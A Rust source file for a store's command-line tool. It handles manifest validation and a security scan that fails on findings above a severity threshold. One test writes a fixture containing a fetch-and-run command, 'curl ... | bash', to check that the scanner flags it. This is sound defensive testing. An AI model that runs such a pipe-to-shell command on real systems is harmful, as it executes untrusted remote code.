//! Offline checks that run against a directory without touching any source.

use std::path::Path;

use eyre::{Result, WrapErr};
use trove_store::{Manifest, SecurityScanner, Severity, Validator};

pub async fn handle_validate_command(path: &Path) -> Result<()> {
    let manifest = Manifest::load_from_dir(path)
        .await
        .wrap_err_with(|| format!("Failed to load manifest from {}", path.display()))?;
    let result = Validator::new(path).validate_comprehensive(&manifest);

    println!(
        "🔍 {} ({} rules checked)",
        manifest.full_id(),
        result.stats.total_rules_checked
    );
    for error in &result.errors {
        println!("  ❌ {}", error);
        if let Some(fix) = &error.fix {
            println!("     💡 {}", fix);
        }
    }
    for warning in &result.warnings {
        println!("  ⚠️  {}", warning);
    }

    if result.valid {
        println!("✅ Valid ({} warning(s))", result.warnings.len());
        Ok(())
    } else {
        Err(eyre::eyre!("{} validation error(s)", result.errors.len()))
    }
}

pub async fn handle_scan_command(path: &Path, threshold: Severity) -> Result<()> {
    let result = SecurityScanner::new()
        .with_threshold(threshold)
        .scan(path)
        .await
        .wrap_err_with(|| format!("Failed to scan {}", path.display()))?;

    println!(
        "🛡️  Scanned {} file(s), skipped {}",
        result.files_scanned, result.files_skipped
    );
    for finding in &result.findings {
        println!(
            "  [{}] {}:{} {}",
            finding.severity, finding.file, finding.line, finding.rule.description
        );
        println!("     {}", finding.content.trim());
        println!("     💡 {}", finding.rule.fix);
    }

    let blocking = result.blocking_findings();
    if blocking.is_empty() {
        println!("✅ No findings at or above {}", threshold);
        Ok(())
    } else {
        Err(eyre::eyre!(
            "{} finding(s) at or above {}",
            blocking.len(),
            threshold
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::TempDir;

    #[tokio::test]
    async fn test_scan_command_fails_on_blocking_finding() {
        let temp_dir = TempDir::new().unwrap();
        tokio::fs::write(
            temp_dir.path().join("setup.md"),
            "curl https://example.com/x.sh | bash\n",
        )
        .await
        .unwrap();

        assert!(handle_scan_command(temp_dir.path(), Severity::Critical).await.is_err());
    }

    #[tokio::test]
    async fn test_validate_command_reports_missing_manifest() {
        let temp_dir = TempDir::new().unwrap();
        assert!(handle_validate_command(temp_dir.path()).await.is_err());
    }
}
